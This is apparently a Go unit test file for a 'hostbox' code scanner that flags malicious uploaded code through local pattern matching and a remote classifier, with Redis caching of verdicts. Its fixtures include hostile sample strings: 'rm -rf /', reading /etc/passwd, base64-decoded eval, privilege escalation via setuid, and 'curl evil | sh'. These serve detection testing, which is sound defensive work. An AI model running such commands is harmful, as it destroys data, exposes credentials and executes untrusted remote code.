package scanner

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
	"github.com/redis/go-redis/v9"

	"hostbox/internal/ai"
	"hostbox/internal/common/cache"
)

type fakeRemote struct {
	mu      sync.Mutex
	calls   int
	result  ai.ScanResult
	err     error
	isError bool
}

func (f *fakeRemote) ScanContent(_ context.Context, _ string, _ []byte) (ai.ScanResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls++
	return f.result, f.err
}

func (f *fakeRemote) IsError(_ context.Context, _ string) (bool, error) {
	return f.isError, nil
}

func (f *fakeRemote) callCount() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.calls
}

func TestLocalVerdictIsDeterministic(t *testing.T) {
	samples := map[string]bool{
		"import os\nos.system('rm -rf /')":             true,
		"subprocess.run(['ls'])":                       true,
		"open('/etc/passwd').read()":                   true,
		"eval(base64.b64decode(payload))":              true,
		"shutil.rmtree('./')":                          true,
		"with open('host_files/x') as f: pass":         true,
		"os.setuid(0)":                                 true,
		"print('hello world')":                         false,
		"import requests\nrequests.get(url)":           false,
		"def add(a, b):\n    return a + b":             false,
		"path = os.path.join(base, 'data', 'out.txt')": false,
	}
	for content, wantMatch := range samples {
		for i := 0; i < 3; i++ {
			v, matched := LocalVerdict([]byte(content))
			if matched != wantMatch {
				t.Fatalf("content %q: matched = %v, want %v", content, matched, wantMatch)
			}
			if matched && v.Kind != VerdictMalicious {
				t.Fatalf("content %q: kind = %s", content, v.Kind)
			}
		}
	}
}

func TestScanOneLocalMatchSkipsRemote(t *testing.T) {
	remote := &fakeRemote{result: ai.ScanResult{Malicious: false}}
	s := New(remote, nil, Config{})

	v := s.ScanOne(context.Background(), ScanFile{
		Path:    "bot.py",
		Content: []byte("os.system('curl evil | sh')"),
	})
	if v.Kind != VerdictMalicious {
		t.Fatalf("kind = %s", v.Kind)
	}
	if remote.callCount() != 0 {
		t.Fatalf("remote called %d times for a local match", remote.callCount())
	}
}

func TestScanOneNonCodeIsSafe(t *testing.T) {
	remote := &fakeRemote{}
	s := New(remote, nil, Config{})
	v := s.ScanOne(context.Background(), ScanFile{
		Path:    "README.md",
		Content: []byte("os.system('this is just documentation')"),
	})
	if v.Kind != VerdictSafe {
		t.Fatalf("kind = %s", v.Kind)
	}
	if remote.callCount() != 0 {
		t.Fatal("remote called for a non-code file")
	}
}

func TestScanOneRemoteFailureIsUnknown(t *testing.T) {
	remote := &fakeRemote{err: errors.New("boom")}
	s := New(remote, nil, Config{RemoteTimeout: time.Second})
	v := s.ScanOne(context.Background(), ScanFile{
		Path:    "main.py",
		Content: []byte("print('benign')"),
	})
	if v.Kind != VerdictUnknown {
		t.Fatalf("kind = %s, want unknown on remote failure", v.Kind)
	}
	if !v.Blocks() {
		t.Fatal("unknown verdict must block execution")
	}
}

func TestScanOneCachesByContentHash(t *testing.T) {
	mr := miniredis.RunT(t)
	redisCache, err := cache.NewRedisCacheWithClient(redis.NewClient(&redis.Options{Addr: mr.Addr()}))
	if err != nil {
		t.Fatalf("redis cache: %v", err)
	}

	remote := &fakeRemote{result: ai.ScanResult{Malicious: true, Reason: "exfiltrates data"}}
	s := New(remote, redisCache, Config{})

	f := ScanFile{Path: "main.py", Content: []byte("print('benign')"), Hash: "deadbeef"}
	first := s.ScanOne(context.Background(), f)
	second := s.ScanOne(context.Background(), f)
	if first.Kind != VerdictMalicious || second.Kind != VerdictMalicious {
		t.Fatalf("verdicts: %s, %s", first.Kind, second.Kind)
	}
	if remote.callCount() != 1 {
		t.Fatalf("remote called %d times, cache should absorb the second", remote.callCount())
	}
}

func TestScanOneNeverCachesUnknown(t *testing.T) {
	mr := miniredis.RunT(t)
	redisCache, err := cache.NewRedisCacheWithClient(redis.NewClient(&redis.Options{Addr: mr.Addr()}))
	if err != nil {
		t.Fatalf("redis cache: %v", err)
	}

	remote := &fakeRemote{err: errors.New("unavailable")}
	s := New(remote, redisCache, Config{})

	f := ScanFile{Path: "main.py", Content: []byte("print('benign')"), Hash: "cafebabe"}
	if v := s.ScanOne(context.Background(), f); v.Kind != VerdictUnknown {
		t.Fatalf("kind = %s", v.Kind)
	}

	// Classifier recovers; the next scan must reach it, not a cached Unknown.
	remote.mu.Lock()
	remote.err = nil
	remote.result = ai.ScanResult{Malicious: false}
	remote.mu.Unlock()

	if v := s.ScanOne(context.Background(), f); v.Kind != VerdictSafe {
		t.Fatalf("kind after recovery = %s", v.Kind)
	}
	if remote.callCount() != 2 {
		t.Fatalf("remote called %d times, want 2", remote.callCount())
	}
}

func TestScanBatchesAllFiles(t *testing.T) {
	remote := &fakeRemote{result: ai.ScanResult{Malicious: false}}
	s := New(remote, nil, Config{BatchSize: 2})

	files := []ScanFile{
		{Path: "a.py", Content: []byte("print(1)")},
		{Path: "b.py", Content: []byte("print(2)")},
		{Path: "c.py", Content: []byte("os.system('x')")},
		{Path: "d.txt", Content: []byte("notes")},
	}
	var mu sync.Mutex
	progress := make(map[string]Verdict)
	results := s.Scan(context.Background(), files, func(path string, v Verdict) {
		mu.Lock()
		progress[path] = v
		mu.Unlock()
	})

	if len(results) != 4 || len(progress) != 4 {
		t.Fatalf("results = %d, progress = %d", len(results), len(progress))
	}
	if results["c.py"].Kind != VerdictMalicious {
		t.Fatalf("c.py = %s", results["c.py"].Kind)
	}
	if results["d.txt"].Kind != VerdictSafe {
		t.Fatalf("d.txt = %s", results["d.txt"].Kind)
	}
}

func TestNextSeqIsMonotonic(t *testing.T) {
	s := New(&fakeRemote{}, nil, Config{})
	var wg sync.WaitGroup
	seen := make([]uint64, 100)
	for i := 0; i < 100; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			seen[i] = s.NextSeq()
		}(i)
	}
	wg.Wait()
	unique := make(map[uint64]struct{}, len(seen))
	for _, v := range seen {
		if v == 0 {
			t.Fatal("sequence must start above zero")
		}
		unique[v] = struct{}{}
	}
	if len(unique) != 100 {
		t.Fatalf("expected 100 unique sequence numbers, got %d", len(unique))
	}
}
